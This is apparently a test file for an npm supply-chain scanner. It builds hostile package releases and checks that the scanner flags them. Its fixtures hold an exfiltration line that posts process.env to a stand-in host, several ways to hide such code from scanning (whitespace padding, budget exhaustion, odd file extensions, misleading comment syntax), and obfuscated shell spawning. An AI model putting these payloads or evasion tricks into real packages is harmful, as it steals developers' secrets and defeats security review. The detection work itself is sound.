import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { hoverMarkdown } from '../../src/core/report/hover-text';
import { type CheckOptions, type CheckReport, runCheck } from '../../src/engine/check/run-check';
import { ScenarioBuilder, tarballPath } from '../fixtures/registry/corpus';
import { type FixtureRegistry, startFixtureRegistry } from '../fixtures/registry/server';

const MB = 1024 * 1024;
const NOW = '2025-01-01T00:00:00Z';
const HOSTILE = '1.1.0';
/** The same exfiltration each time: plain, it is flagged high (content-credentials and content-network). */
const PAYLOAD = "const https = require('https'); const req = https.request({ hostname: 'exfil.example.com', method: 'POST' }); req.end(JSON.stringify(process.env));\n";

type Files = Record<string, string | Buffer>;
interface Case {
  /** The hostile release's files (package.json generated unless given). */
  files?: Files;
  manifest?: Record<string, unknown>;
  /** Codes that must be there, at high or above unless a severity is given. */
  expect: { code: string; severity?: string }[];
}

const CASES: Record<string, Case> = {
  // 1. the payload, then `//` and 5.5 MB of spaces: once skipped as too large ("nothing suspicious")
  'r-padded': { files: { 'index.js': `${PAYLOAD}//${' '.repeat(5.5 * MB)}\n` }, expect: [{ code: 'content-credentials' }] },
  // 2. 20 MB of data files (exactly the budget) ahead of index.js used up the budget
  'r-data-first': {
    files: Object.fromEntries([...Array.from({ length: 5 }, (_, i) => [`assets/pad${i}.bin`, Buffer.alloc(4 * MB, i + 1)]), ['index.js', PAYLOAD]]),
    expect: [{ code: 'content-credentials' }],
  },
  // 3. index.js requires a .dat file: node runs it as CommonJS
  'r-dat': { files: { 'index.js': "require('./lib/data.dat');\n", 'lib/data.dat': PAYLOAD }, expect: [{ code: 'content-credentials' }] },
  // 4. the entry point in a "non-runtime" folder
  'r-test-main': { files: { 'test/index.js': PAYLOAD }, manifest: { main: 'test/index.js' }, expect: [{ code: 'content-credentials' }] },
  'r-bin-in-docs': { files: { 'index.js': 'module.exports = 1;\n', 'docs/cli.js': PAYLOAD }, manifest: { bin: { tool: './docs/cli.js' } }, expect: [{ code: 'content-credentials' }] },
  // 5. a regular expression literal with `//` before the payload, on the same line
  'r-regex': { files: { 'index.js': `const r = /[//]/; ${PAYLOAD}` }, expect: [{ code: 'content-credentials' }] },
  'r-template': { files: { 'index.js': `const u = \`\${\`//\`}\`; ${PAYLOAD}` }, expect: [{ code: 'content-credentials' }] },
  // 6. process access without child_process in plain sight
  'r-binding': { files: { 'index.js': "const s = process.binding('spawn_sync');\ns.spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', 'id'] });\n" }, expect: [{ code: 'content-process', severity: 'medium' }] },
  'r-unicode': { files: { 'index.js': "const cp = require('\\u0063hild_process');\ncp.exec('id');\n" }, expect: [{ code: 'content-process' }] },
  'r-concat': { files: { 'index.js': "const p = globalThis['pro' + 'cess'];\np.binding('spawn_sync');\n" }, expect: [{ code: 'content-process' }] },
};

const cleanEnv = (home: string): NodeJS.ProcessEnv => ({ PATH: process.env.PATH, HOME: home, npm_config_userconfig: path.join(home, 'none'), npm_config_globalconfig: path.join(home, 'none') });

function writeProject(dir: string, registryUrl: string, locked: Record<string, string>, integrity: (name: string, version: string) => string | undefined): void {
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'victim', version: '1.0.0', dependencies: locked }, null, 2));
  const packages: Record<string, object> = { '': { name: 'victim', version: '1.0.0', dependencies: locked } };
  for (const [name, version] of Object.entries(locked)) packages[`node_modules/${name}`] = { version, resolved: `${registryUrl}${tarballPath(name, version).slice(1)}`, integrity: integrity(name, version) };
  fs.writeFileSync(path.join(dir, 'package-lock.json'), JSON.stringify({ name: 'victim', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2));
}

const rank = ['info', 'low', 'medium', 'high', 'critical'];

/**
 * The content scan reads what runs (issue 15): each hostile release (1.1.0) against an ordinary one (1.0.0), served
 * as real tarballs by the loopback fixture registry and judged by runCheck. Each case hid its payload from the scan
 * before; now the payload is found, or what could not be read is a `content-unscanned` finding.
 */
describe('content scan reads what runs (hostile releases through trustlens check)', function () {
  this.timeout(240_000);
  let work: string;
  let registry: FixtureRegistry;
  let report: CheckReport;

  before(async () => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'trustlens-reads-what-runs-'));
    const b = new ScenarioBuilder({ registryKey: null });
    for (const [name, c] of Object.entries(CASES)) {
      const p = b.package(name);
      p.version('1.0.0', { publisher: { name: 'alice' }, files: { 'index.js': 'module.exports = 1;\n' } });
      p.version(HOSTILE, { publisher: { name: 'alice' }, files: c.files ?? { 'index.js': 'module.exports = 2;\n' }, manifest: c.manifest });
    }
    b.package('quiet')
      .version('1.0.0', { publisher: { name: 'alice' }, files: { 'index.js': 'module.exports = 1;\n' } })
      .version('1.0.1', { publisher: { name: 'alice' }, files: { 'index.js': `const r = /[//]/; module.exports = (s) => r.test(s); // ${'x'.repeat(40)}\n`, 'big.js': `module.exports = ${JSON.stringify('a b '.repeat(1.5 * MB))};\n` } });
    const corpus = await b.build();
    registry = await startFixtureRegistry(corpus);
    const integrityOf = (name: string, version: string) => corpus.packuments.get(name)?.versions[version]?.dist.integrity;
    const project = path.join(work, 'project');
    writeProject(project, registry.url, { ...Object.fromEntries(Object.keys(CASES).map((n) => [n, HOSTILE])), quiet: '1.0.1' }, integrityOf);
    const options: CheckOptions = {
      projectDir: project,
      registry: registry.url,
      env: cleanEnv(project),
      cacheDir: path.join(work, 'cache'),
      now: new Date(NOW),
      timeoutMs: 10_000,
      advisories: { npm: false, osv: false },
      // A hang guard, not a limit under test (see hostile-tarballs.test.ts).
      contentLimits: { timeoutMs: 3_600_000 },
    };
    report = await runCheck(options);
  });
  after(async () => {
    await registry?.close();
    if (work) fs.rmSync(work, { recursive: true, force: true });
  });

  for (const [name, c] of Object.entries(CASES)) {
    it(`${name}: ${c.expect.map((e) => `${e.code} ${e.severity ?? 'high'}`).join(', ')}`, () => {
      const got = report.findings.filter((f) => f.package === name && f.version === HOSTILE);
      const errors = report.errors.filter((e) => e.package.startsWith(`${name}@`));
      assert.deepEqual(errors, [], `${name}: analysed, not an error`);
      for (const e of c.expect) {
        const f = got.find((x) => x.code === e.code);
        assert.ok(f, `${name} should have ${e.code}; it has: ${got.map((x) => `${x.code} ${x.severity}`).join(', ') || 'nothing'}`);
        if (e.severity) assert.equal(f.severity, e.severity, f.message);
        else assert.ok(rank.indexOf(f.severity) >= rank.indexOf('high'), `${name}: ${e.code} at ${f.severity}: ${f.message}`);
      }
      const card = report.cards.find((k) => k.name === name && k.version === HOSTILE);
      assert.ok(card?.changes, `${name} was compared with the release before it`);
      assert.doesNotMatch(hoverMarkdown(card, new Date(NOW)), /nothing suspicious/, 'the hover never says "nothing suspicious" here');
    });
  }


  it('an ordinary release with a regex literal and a large code file stays quiet', () => {
    assert.deepEqual(report.findings.filter((f) => f.package === 'quiet').map((f) => f.code), []);
    const card = report.cards.find((k) => k.name === 'quiet')!;
    assert.equal(card.changes?.truncated, false);
    assert.match(hoverMarkdown(card, new Date(NOW)), /nothing suspicious in the code/);
  });

});
